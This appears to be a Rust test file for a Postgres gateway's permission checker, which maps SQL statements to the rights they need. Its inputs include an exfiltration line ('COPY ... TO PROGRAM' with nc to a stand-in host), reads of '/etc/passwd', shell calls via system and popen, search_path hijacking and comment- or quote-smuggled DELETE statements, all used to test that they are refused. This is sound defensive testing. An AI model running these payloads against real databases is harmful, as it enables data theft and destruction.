//! What the judge says of statements: each row is a statement, the least that it needs, and nothing less.
//!
//! One long file, because it is the table that the judge is read against.

use super::*;
use crate::{FunctionRule, StatementKind, StatementRule};

fn capability(words: &str) -> PostgresCapability {
    let mut rule = StatementRule::default();
    for word in words.split(", ").filter(|word| !word.is_empty()) {
        match word {
            "any" => rule.any = true,
            "read" => rule.kinds.push(StatementKind::Read),
            "write" => rule.kinds.push(StatementKind::Write),
            "ddl" => rule.kinds.push(StatementKind::Ddl),
            "role" => rule.kinds.push(StatementKind::Role),
            name => rule.names.push(name.to_owned()),
        }
    }
    PostgresCapability { statements: rule, ..PostgresCapability::nothing() }
}

fn allowed(words: &str, sql: &str) -> bool {
    judge(&capability(words), sql).is_allowed()
}

/// Rights that together are everything with a name, and still not `any`.
const EVERYTHING_NAMED: &str = "read, write, ddl, role, set role, set, copy, copy file, copy program, call, do, vacuum, \
                                analyze, cluster, lock, listen, notify, prepare transaction, alter system, \
                                checkpoint, load";

/// What is wrong, unless the statement is allowed with all of these rights, and with none of them missing.
fn wrong(words: &str, sql: &str) -> Option<String> {
    if let Judgement::Refused(refusal) = judge(&capability(words), sql) {
        return Some(format!("{sql} with {words}: {}", refusal.message));
    }
    let all: Vec<&str> = words.split(", ").filter(|word| !word.is_empty()).collect();
    (0..all.len()).find_map(|left_out| {
        let rest: Vec<&str> = all.iter().enumerate().filter(|(at, _)| *at != left_out).map(|(_, word)| *word).collect();
        allowed(&rest.join(", "), sql).then(|| format!("{sql} without {}", all[left_out]))
    })
}

#[test]
fn statements_need_just_their_kind_or_name() {
    let rows = [
        ("", ""),
        ("", " -- nothing\n;;"),
        ("read", "SELECT 1"),
        ("read", "select * from orders where id = $1 and name ~ 'x' order by 1 limit 10;"),
        ("read", "(SELECT 1) UNION ALL (SELECT 2)"),
        ("read", "VALUES (1), (2)"),
        ("read", "TABLE orders"),
        ("read", "WITH x AS (SELECT 1) SELECT * FROM x"),
        ("read", "SHOW search_path"),
        ("read", "EXPLAIN SELECT 1"),
        ("read", "EXPLAIN DELETE FROM orders"),
        ("read", "EXPLAIN (ANALYZE, BUFFERS) SELECT 1"),
        ("read", "PREPARE p (int) AS SELECT $1"),
        ("read", "DECLARE c CURSOR FOR SELECT * FROM orders"),
        ("read", "LOCK TABLE orders IN ACCESS SHARE MODE"),
        ("", "FETCH 10 FROM c"),
        ("", "CLOSE c"),
        ("", "EXECUTE p(1, 'x')"),
        ("", "DEALLOCATE ALL"),
        ("", "DISCARD ALL"),
        ("", "BEGIN"),
        ("", "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY"),
        ("", "START TRANSACTION"),
        ("", "COMMIT AND CHAIN"),
        ("", "SAVEPOINT a; ROLLBACK TO SAVEPOINT a; RELEASE a; ABORT; END"),
        ("", "SET application_name = 'x'"),
        ("", "SET SESSION extra_float_digits = 3"),
        ("", "SET LOCAL statement_timeout TO 0"),
        ("", "SET TIME ZONE 'UTC'"),
        ("", "SET search_path = app, public"),
        ("", "SET client_encoding TO 'UTF8'"),
        ("", "SET standard_conforming_strings = on"),
        ("", "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY"),
        ("", "RESET ALL"),
        ("set", "SET work_mem = '1GB'"),
        ("set", "SET search_path = evil, pg_catalog"),
        ("set", "SET search_path TO 'evil, pg_catalog'"),
        ("set, select", "SELECT set_config('search_path', 'evil, PG_CATALOG', false)"),
        ("set, select", "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings"),
        ("set", "SET my.setting = 'x'"),
        ("set role", "SET ROLE admin"),
        ("set role", "RESET ROLE"),
        ("set role", "SET SESSION AUTHORIZATION admin"),
        ("set role", "SET LOCAL ROLE admin"),
        ("insert", "INSERT INTO orders VALUES (1, 'x')"),
        ("insert", "INSERT INTO orders (id, name) VALUES (1, 'x')"),
        ("insert, select", "INSERT INTO orders SELECT * FROM old"),
        ("insert, select", "INSERT INTO orders VALUES (1) RETURNING id"),
        ("insert, update", "INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET name = 'x'"),
        ("insert", "INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING"),
        ("update", "UPDATE orders SET name = 'x' WHERE id = 1"),
        ("delete", "DELETE FROM orders WHERE id = 1"),
        ("delete, select", "DELETE FROM orders RETURNING *"),
        ("delete, select", "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone"),
        ("select, update", "WITH x AS (UPDATE orders SET a = 1 RETURNING id) SELECT id FROM x"),
        ("merge, select", "MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE"),
        ("truncate", "TRUNCATE orders"),
        ("select, select for update", "SELECT * FROM orders FOR UPDATE"),
        ("select, select for update", "SELECT * FROM orders FOR SHARE"),
        ("select, create table", "SELECT * INTO copy FROM orders"),
        ("create table, select", "CREATE TABLE copy AS SELECT * FROM orders"),
        ("create table, select", "CREATE TEMP TABLE copy AS (SELECT 1) WITH NO DATA"),
        ("create table", "CREATE TABLE t (id bigint PRIMARY KEY, at timestamptz DEFAULT now())"),
        ("create index", "CREATE UNIQUE INDEX CONCURRENTLY i ON t (lower(name))"),
        ("create view", "CREATE OR REPLACE VIEW v AS SELECT 1"),
        ("create materialized view, select", "CREATE MATERIALIZED VIEW v AS SELECT 1"),
        ("create function", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM orders; SELECT 1 $$"),
        ("create role", "CREATE ROLE eve SUPERUSER"),
        ("create role", "CREATE USER eve"),
        ("create other", "CREATE USER MAPPING FOR eve SERVER s"),
        ("create schema, grant", "CREATE SCHEMA s GRANT ALL ON SCHEMA s TO eve"),
        (
            "create schema, create table, create view",
            "CREATE SCHEMA s CREATE TABLE t (a int) CREATE VIEW v AS SELECT 1",
        ),
        ("alter table", "ALTER TABLE t ADD COLUMN a int"),
        ("alter role", "ALTER USER eve SUPERUSER"),
        ("alter system", "ALTER SYSTEM SET fsync = off"),
        ("alter default privileges", "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO eve"),
        ("drop table", "DROP TABLE IF EXISTS t CASCADE"),
        ("drop owned", "DROP OWNED BY eve"),
        ("grant", "GRANT ALL ON orders TO eve"),
        ("comment", "COMMENT ON TABLE t IS 'x'"),
        ("refresh", "REFRESH MATERIALIZED VIEW v"),
        ("reindex", "REINDEX TABLE t"),
        ("vacuum", "VACUUM (ANALYZE) t"),
        ("analyze", "ANALYZE t"),
        ("lock", "LOCK TABLE orders"),
        ("listen", "LISTEN jobs"),
        ("notify", "NOTIFY jobs, 'x'"),
        ("do", "DO $$ BEGIN DELETE FROM orders; END $$"),
        ("call", "CALL app.run(1)"),
        ("copy, select", "COPY orders TO STDOUT"),
        ("copy, select", "COPY (SELECT * FROM orders) TO STDOUT WITH (FORMAT csv)"),
        ("copy, insert", "COPY orders (id, name) FROM STDIN"),
        ("copy, insert, copy file", "COPY orders FROM '/etc/passwd'"),
        ("copy, select, copy file", "COPY orders TO '/tmp/x'"),
        ("copy, select, copy program", "COPY orders TO PROGRAM 'nc evil 1'"),
        ("copy, select, delete", "COPY (DELETE FROM orders RETURNING *) TO STDOUT"),
        ("explain, delete", "EXPLAIN ANALYZE DELETE FROM orders"),
        ("explain, delete", "EXPLAIN (ANALYZE) DELETE FROM orders"),
        ("prepare transaction", "PREPARE TRANSACTION 'x'"),
        ("prepare transaction", "COMMIT PREPARED 'x'"),
        ("delete", "PREPARE p AS DELETE FROM orders"),
        ("select, delete", "SELECT 1; DELETE FROM orders"),
        ("nextval, select", "SELECT nextval('s')"),
        ("large object, select", "SELECT lo_unlink(1)"),
        ("lock, select", "SELECT pg_advisory_lock(1)"),
        ("notify, select", "SELECT pg_notify('a', 'b')"),
        ("set, select", "SELECT set_config('work_mem', '1GB', false)"),
        ("select", "SELECT pg_catalog.set_config('search_path', '', false)"),
    ];
    let wrong: Vec<String> = rows.iter().filter_map(|(words, sql)| wrong(words, sql)).collect();
    assert_eq!(wrong, [""; 0]);
}

#[test]
fn what_cannot_be_judged_is_for_those_who_may_run_anything() {
    let deep = format!("SELECT {}1{}", "(".repeat(5_000), ")".repeat(5_000));
    let long_chain = format!("SELECT 1{}", " + 1".repeat(50_000));
    let many_unions = format!("SELECT 1{}", " UNION SELECT 1".repeat(5_000));
    let too_long = format!("SELECT '{}'", "x".repeat(MAX_TEXT));
    for (name, sql) in [
        ("no statement", "FROBNICATE everything"),
        ("no word", "1 + 1"),
        ("does not parse", "SELECT FROM WHERE ,"),
        ("another language", "SELECT * FROM t SETTINGS max_threads = 1"),
        ("another language's insert", "REPLACE INTO t VALUES (1)"),
        ("an open string", "SELECT 'x"),
        ("Unicode escapes", "SELECT U&'\\0027'"),
        ("an open comment", "SELECT 1 /* x"),
        ("nesting", &deep),
        ("a long chain", &long_chain),
        ("many unions", &many_unions),
        ("length", &too_long),
        ("a setting that changes the reading", "SET standard_conforming_strings = off"),
        ("the same by function", "SELECT set_config('standard_conforming_strings', 'off', false)"),
        ("an encoding that hides quotes", "SET client_encoding = 'SJIS'"),
        ("the same by its other name", "SET NAMES 'big5'"),
        ("a setting that is not known before it runs", "SELECT set_config(name, value, false) FROM evil"),
        ("an encoding that looks like a list", "SELECT set_config('client_' || 'encoding', 'S,JIS', false)"),
        ("a verb that the tree does not have", "SELECT delete FROM t"),
    ] {
        assert!(!allowed(EVERYTHING_NAMED, sql), "{name}");
        assert!(allowed("any", sql), "{name}");
    }
}

#[test]
fn comments_and_quotes_hide_nothing() {
    for sql in [
        "SELECT 1; /* x */ DELETE FROM orders",
        "SELECT '/*'; DELETE FROM orders; --*/'",
        "SELECT $$ ; $$; DELETE FROM orders",
        "SELECT $a$ $b$ $a$; DELETE FROM orders --$b$",
        "SELECT E'\\'' ; DELETE FROM orders --'",
        "SELECT 'a\\'; DELETE FROM orders --'",
        "/* /* */ SELECT 1 */ DELETE FROM orders",
        "SELECT \"a;b\"; DELETE FROM orders",
        "WITH a AS (SELECT 1), b AS (DELETE FROM orders RETURNING 1) SELECT 1",
        "WITH RECURSIVE a AS (WITH b AS (DELETE FROM orders RETURNING 1) SELECT 1) SELECT 1",
        "SELECT (WITH a AS (DELETE FROM orders RETURNING 1) SELECT 1)",
        "EXPLAIN (VERBOSE, ANALYZE) DELETE FROM orders",
        "EXPLAIN ANALYZE VERBOSE WITH a AS (DELETE FROM orders RETURNING 1) SELECT 1",
        "dElEtE/**/FROM/**/orders",
        "\u{c}DELETE\tFROM\rorders",
    ] {
        assert!(!allowed("read", sql), "{sql}");
        assert!(!allowed("read, insert, update, truncate, ddl", sql), "{sql}");
    }
    for sql in ["SELECT 'DELETE FROM orders'", "SELECT $$; DELETE FROM orders;$$ -- DELETE", "SELECT \"delete\" FROM t"]
    {
        assert!(allowed("read", sql), "{sql}");
    }
}

#[test]
fn where_a_backslash_may_escape_a_text_with_one_in_a_string_is_not_judged() {
    let backslashes = Reading { standard_conforming_strings: false, ..Reading::default() };
    let sql = "SELECT '\\'; DELETE FROM orders; --'";
    assert!(!judge(&capability("read"), sql).is_allowed());
    // One string to a server that escapes, and three statements to one that was just told not to.
    assert!(!judge_as(&capability("read"), sql, backslashes).is_allowed());
    assert!(!judge_as(&capability("read"), "SELECT N'\\'", backslashes).is_allowed());
    assert!(judge_as(&capability("read"), "SELECT 'it''s', E'\\'', \"\\\"", backslashes).is_allowed());
    let sjis = Reading { plain_encoding: false, ..Reading::default() };
    assert!(judge_as(&capability("read"), "SELECT 'a'", sjis).is_allowed());
    assert!(!judge_as(&capability("read"), "SELECT 'é'", sjis).is_allowed());
    for (name, plain) in [
        ("UTF8", true),
        ("utf-8", true),
        ("LATIN1", true),
        ("WIN1252", true),
        ("SQL_ASCII", true),
        ("EUC_JP", true),
        ("SJIS", false),
        ("gbk", false),
        ("Big5", false),
        ("GB18030", false),
        ("UHC", false),
        ("JOHAB", false),
        ("WIN932", false),
        ("Windows-936", false),
        ("win949", false),
        ("windows950", false),
        ("mskanji", false),
        ("eucfoo", false),
    ] {
        assert_eq!(Reading::is_plain_encoding(name), plain, "{name}");
    }
}

#[test]
fn functions_are_harmless_or_named() {
    for sql in [
        "SELECT count(*), max(a) FROM t",
        "SELECT coalesce(a, lower(b)), extract(year from c), substring(d from 1 for 2), x::numeric(10, 2) FROM t AS u (a, b)",
        "SELECT * FROM generate_series(1, 10) AS g(n)",
        "SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t",
        "SELECT pg_catalog.format_type(1, 2)",
        "SELECT CAST(a AS geometry(point, 4326)), b::vector(3) FROM t",
        "SELECT * FROM t WHERE id IN (1, 2) AND EXISTS (SELECT 1) AND a = ANY(ARRAY[1, 2])",
        "WITH x(a, b) AS (SELECT 1, 2) SELECT * FROM x y(c, d)",
        "SELECT * FROM t TABLESAMPLE SYSTEM (10)",
    ] {
        assert!(allowed("read", sql), "{sql}: {:?}", judge(&capability("read"), sql));
    }
    for sql in [
        "SELECT app.total(1)",
        "SELECT total(1)",
        "SELECT * FROM total(1)",
        "SELECT 1 FROM t JOIN LATERAL total(t.id) ON true",
        "SELECT \"total\"(1)",
        "SELECT \"array\"(1)",
        "SELECT app.array(1)",
        "SELECT evil.lower('x')",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT system('id')",
        "SELECT popen('id')",
        "SELECT pg_catalog.pg_terminate_backend(1)",
        "SELECT query_to_xml('DELETE FROM orders', true, true, '')",
        "SELECT dblink_exec('host=x', 'DELETE FROM orders')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT 1 ORDER BY total(1)",
        "SELECT 1 GROUP BY total(1) HAVING total(2) > 1 LIMIT total(3)",
        "VALUES (total(1))",
        "SELECT sum(a) FILTER (WHERE total(a)) OVER (ORDER BY total(b)) FROM t",
        "EXPLAIN SELECT total(1)",
        "EXECUTE p(total(1))",
        "EXECUTE p(key(1))",
        "SELECT key(1)",
        "CALL p(total(1))",
        "SELECT CASE WHEN total(1) THEN 1 END",
        "SELECT ARRAY(SELECT total(1))",
    ] {
        assert!(!allowed(EVERYTHING_NAMED, sql), "{sql}");
        let functions = FunctionRule { allow: vec!["*".into(), "*.*".into()], deny: Vec::new() };
        let named = PostgresCapability { functions, ..capability(EVERYTHING_NAMED) };
        assert!(judge(&named, sql).is_allowed(), "{sql}: {:?}", judge(&named, sql));
        let mut denied = named.clone();
        denied.functions.deny = vec![
            "total".into(),
            "array".into(),
            "lower".into(),
            "pg_*".into(),
            "query_*".into(),
            "dblink*".into(),
            "lo_*".into(),
            "system".into(),
            "popen".into(),
            "key".into(),
        ];
        assert!(!judge(&denied, sql).is_allowed(), "denied: {sql}");
    }
    assert!(!allowed("ddl, read", "ALTER TABLE t ALTER a TYPE text USING pg_read_file('/etc/passwd')"));
}

#[test]
fn a_procedure_is_called_by_right_or_by_name() {
    let named = |deny: &[&str]| PostgresCapability {
        functions: FunctionRule {
            allow: vec!["app.run".into(), "app.key".into()],
            deny: deny.iter().map(|name| (*name).into()).collect(),
        },
        ..capability("read")
    };
    assert!(judge(&named(&[]), "CALL app.run(1)").is_allowed());
    assert!(judge(&named(&[]), "CALL app.run(app.key(1))").is_allowed());
    assert!(!judge(&named(&[]), "CALL app.run(key(1))").is_allowed());
    assert!(!judge(&named(&[]), "CALL app.other(1)").is_allowed());
    assert!(!judge(&named(&["run"]), "CALL app.run(1)").is_allowed());
}

#[test]
fn explain_that_runs_its_statement_needs_what_the_statement_needs() {
    for sql in [
        "EXPLAIN ANALYZE DELETE FROM orders",
        "EXPLAIN (ANALYZE) DELETE FROM orders",
        "EXPLAIN (\"analyze\") DELETE FROM orders",
        "EXPLAIN (verbose, \"analyze\" on) DELETE FROM orders",
        "EXPLAIN (something_new) DELETE FROM orders",
    ] {
        assert!(!allowed("read, insert", sql), "{sql}");
        assert!(allowed("read, delete", sql), "{sql}");
    }
    for sql in ["EXPLAIN DELETE FROM orders", "EXPLAIN (VERBOSE, COSTS off, FORMAT 'json') DELETE FROM orders"] {
        assert!(allowed("read, insert", sql), "{sql}");
    }
}

#[test]
fn settings_are_not_changed_by_way_of_their_view() {
    for sql in [
        "UPDATE pg_settings SET setting = 'admin' WHERE name = 'role'",
        "UPDATE pg_catalog.\"pg_settings\" AS s SET setting = 'off' WHERE name = 'standard_conforming_strings'",
        "WITH x AS (UPDATE pg_settings SET setting = 'off' RETURNING 1) SELECT * FROM x",
    ] {
        assert!(!allowed("read, write, ddl", sql), "{sql}");
    }
    assert!(allowed("read", "SELECT setting FROM pg_settings"));
}

#[test]
fn a_read_only_session_stays_so() {
    let any = PostgresCapability { read_only: true, ..capability("any") };
    for (name, sql) in [
        ("begin", "BEGIN READ WRITE"),
        ("start", "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE"),
        ("set transaction", "SET TRANSACTION READ WRITE"),
        ("characteristics", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE"),
        ("the setting", "SET transaction_read_only = off"),
        ("the default", "SET default_transaction_read_only TO 'off'"),
        ("in quotes", "SET \"default_transaction_read_only\" = 0"),
        ("what a transaction begins with", "RESET transaction_read_only"),
        ("the same in quotes", "RESET \"Transaction_Read_Only\""),
        ("the same as a value", "SET LOCAL transaction_read_only TO DEFAULT"),
        ("in capitals", "SET SESSION DEFAULT_TRANSACTION_READ_ONLY = FALSE"),
        ("by function", "SELECT set_config('default_transaction_read_only', 'off', false)"),
        ("by the view", "UPDATE pg_settings SET setting = 'off' WHERE name = 'default_transaction_read_only'"),
        ("by a block", "DO $$ BEGIN PERFORM set_config('default_transaction_read_only', 'off', false); END $$"),
        ("by a procedure", "CALL set_it()"),
        ("by a function that is not known", "SELECT set_it()"),
        ("by what cannot be judged", "SELECT U&'x'"),
        ("writing", "DELETE FROM orders"),
    ] {
        assert!(!judge(&any, sql).is_allowed(), "{name}");
        assert!(name == "by the view" || !allowed("read", sql), "{name}");
    }
    for sql in [
        "BEGIN READ ONLY",
        "SET default_transaction_read_only = on",
        "RESET ALL",
        "SELECT 1",
        "SET TRANSACTION READ ONLY",
    ] {
        assert!(judge(&any, sql).is_allowed(), "{sql}");
        assert!(allowed("read", sql), "{sql}");
    }
}

#[test]
fn a_refusal_says_what_the_rule_allows_and_what_to_ask_for() {
    let Judgement::Refused(refusal) = judge(&capability("read"), "DELETE FROM orders") else { panic!("allowed") };
    assert_eq!(refusal.sqlstate, "42501");
    assert_eq!(refusal.message, "the policy does not allow delete here");
    assert_eq!(refusal.hint, "ask for \"statements\": [\"write\"] or [\"delete\"]");
    let rule = crate::Location { line: 12, column: 5, rule: "grants[3]".into() };
    assert_eq!(
        refusal.detail(&[rule]),
        "the policy's grants[3] (line 12, column 5) allows read, in a read-only session"
    );
}

#[test]
fn replication_commands_and_calls_by_number_have_rights_of_their_own() {
    let replica = PostgresCapability { replication: true, ..capability("") };
    for sql in ["IDENTIFY_SYSTEM", "START_REPLICATION SLOT s LOGICAL 0/0", "  base_backup (LABEL 'x')"] {
        assert!(judge_replication(&replica, sql, Reading::default()).is_allowed(), "{sql}");
        assert!(!judge_replication(&capability(EVERYTHING_NAMED), sql, Reading::default()).is_allowed(), "{sql}");
    }
    assert!(!judge_replication(&replica, "SELECT 1", Reading::default()).is_allowed());
    assert!(judge_function_call(&capability("read"), 954).is_allowed(), "loread");
    assert!(!judge_function_call(&capability("read"), 955).is_allowed(), "lowrite");
    assert!(judge_function_call(&capability("write"), 955).is_allowed(), "lowrite");
    assert!(!judge_function_call(&capability(EVERYTHING_NAMED), 764).is_allowed(), "lo_import");
    assert!(!judge_function_call(&capability(EVERYTHING_NAMED), 2096).is_allowed(), "any other");
}

#[test]
fn hard_texts_take_neither_the_stack_nor_long() {
    let texts = [
        format!("SELECT {}", "(".repeat(23)),
        format!("SELECT * FROM {}t{}", "(".repeat(22), ")".repeat(22)),
        format!("SELECT * FROM {}SELECT 1{}", "(".repeat(22), ")".repeat(22)),
        format!("SELECT {}1{}", "ARRAY[".repeat(22), "]".repeat(22)),
        format!("SELECT 1{}", " + 1".repeat(900)),
        format!("SELECT 1{}", " OR a = 1".repeat(400)),
        format!("SELECT 1{}", " UNION SELECT 1".repeat(600)),
        format!("SELECT {}1", "NOT ".repeat(1_900)),
        format!("SELECT {}1", "- ".repeat(1_900)),
        format!("SELECT a{}", "::int".repeat(900)),
        format!("SELECT a{}", "[1]".repeat(900)),
        format!("SELECT {}", "CASE WHEN 1 THEN ".repeat(22)),
        format!("SELECT * FROM t{}", " JOIN t ON true".repeat(400)),
        format!("INSERT INTO t VALUES {} (1)", "(1, 'x', now()), ".repeat(9_000)),
        format!("SELECT {} 1", (0..24_000).map(|n| format!("a{n:08}(), ")).collect::<String>()),
    ];
    // What a worker's thread of the gateway has.
    let judged = std::thread::Builder::new().stack_size(2 << 20).spawn(move || {
        let begin = std::time::Instant::now();
        for text in texts {
            let _ = judge(&capability("read, write"), &text);
            assert!(begin.elapsed().as_secs() < 60, "{}", &text[..40]);
        }
    });
    judged.unwrap().join().unwrap();
}

#[test]
fn the_name_that_a_statement_gives_is_told_where_it_is_sure() {
    for (sql, expected) in [
        ("PREPARE s AS SELECT 1;", Some("s")),
        ("PREPARE s AS SELECT 1; PREPARE t AS SELECT 2", None),
        ("SELECT s", None),
        ("PREPARE s AS SELECT 'open", None),
        ("/* x */ prepare /* y */ \"A b\" (int) AS SELECT $1", Some("A b")),
        ("DECLARE c CURSOR FOR SELECT 1", Some("c")),
        ("PREPARE U&\"s\" AS SELECT 1", None),
        ("/* open", None),
        ("", None),
    ] {
        assert_eq!(given_name(sql).as_deref(), expected, "{sql}");
    }
}

#[test]
fn a_text_is_split_where_the_server_splits_it() {
    for (sql, expected) in [
        ("SELECT 1", vec!["SELECT 1"]),
        ("SELECT 1; ", vec!["SELECT 1; "]),
        ("SELECT ';'; DELETE FROM t;", vec!["SELECT ';'", "DELETE FROM t"]),
        ("BEGIN;; /* ; */ SELECT $$;$$;COMMIT", vec!["BEGIN", "SELECT $$;$$", "COMMIT"]),
        ("SELECT '; x", vec!["SELECT '; x"]),
    ] {
        let found: Vec<&str> = split(sql).into_iter().map(|at| &sql[at]).collect();
        assert_eq!(found, expected);
    }
}

/// What stock tools ask by themselves. Those that do not parse are counted, so that nobody loses one without noticing.
#[test]
fn what_stock_tools_ask_is_read() {
    for (name, rights, texts) in [
        ("psql", "read", include_str!("../../tests/statements/psql.sql")),
        ("pg_dump", "read, copy, set", include_str!("../../tests/statements/pg_dump.sql")),
        ("drivers", "read", include_str!("../../tests/statements/drivers.sql")),
    ] {
        let refused: Vec<String> = texts
            .split("\n----\n")
            .filter_map(|sql| match judge(&capability(rights), sql) {
                Judgement::Allowed => None,
                Judgement::Refused(refusal) => Some(format!("{name}: {}: {sql}", refusal.message)),
            })
            .collect();
        assert!(refused.is_empty(), "{}", refused.join("\n\n"));
    }
}
